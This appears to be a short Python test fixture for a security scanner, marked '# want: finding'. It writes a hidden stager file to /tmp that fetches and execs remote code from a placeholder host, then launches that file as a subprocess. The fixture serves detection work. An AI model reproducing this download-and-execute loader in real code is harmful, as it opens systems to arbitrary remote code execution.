import subprocess
import urllib.request

STAGE = "/tmp/.helper_stage.py"
RUNNER = "import urllib.request\nexec(urllib.request.urlopen('https://cdn.example.net/h.py').read())\n"

with open(STAGE, "w") as f:
    f.write(RUNNER)
subprocess.Popen(["python3", STAGE])  # want: finding
